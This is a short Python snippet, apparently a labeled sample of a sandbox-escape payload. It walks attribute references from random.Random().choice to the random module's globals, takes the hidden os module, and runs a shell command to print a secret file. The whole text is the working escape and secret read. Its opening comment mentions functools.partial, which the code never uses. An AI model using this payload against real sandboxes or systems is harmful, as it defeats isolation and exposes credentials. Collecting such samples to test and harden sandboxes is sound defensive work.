# functools.partial keeps a function as .func: getattr by reduce over a path of names.
# effect: run
import functools
import random
path = "choice.__func__.__globals__"
scope = functools.reduce(getattr, path.split("."), random.Random())
scope["_os"].system("cat @SECRET@")
